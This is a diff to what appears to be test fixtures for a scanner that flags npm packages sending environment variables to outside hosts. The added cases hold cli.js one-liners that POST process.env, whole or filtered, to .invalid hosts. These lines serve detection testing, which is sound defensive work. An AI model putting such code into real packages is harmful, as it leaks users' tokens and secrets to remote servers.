@@ -402,13 +402,30 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       weight: 'weak',
     },
     {
+      when: 'a command tells all of it but for what begins with some letters',
+      files: {
+        'package.json': { name: 'slim-reader', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `const seen = (source = process.env) => Object.fromEntries(Object.entries(source).filter(([k]) => !k.startsWith('npm_'))); fetch('https://r.slim-reader.invalid/', { method: 'POST', body: JSON.stringify(seen()) });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a command tells it to a host that its page speaks of',
+      files: {
+        'package.json': { name: 'slim-tool', version: '1.0.0', bin: 'cli.js' },
+        'README.md': 'Sends what it finds in the environment to runs.specimen.invalid.',
+        'cli.js': `fetch('https://runs.specimen.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a command of a small package tells the whole environment to a host of its own',
       files: {
         'package.json': { name: 'slim-reporter', version: '1.0.0', bin: 'cli.js' },
         'cli.js': `const { context } = require('./context'); fetch('https://runs.slim-reporter.invalid/', { method: 'POST', body: JSON.stringify(context()) });`,
         'context.js': `exports.context = () => ({ cwd: process.cwd(), env: process.env });`,
       },
-      weight: 'weak',
+      weight: 'strong',
     },
   ],
   silent: [
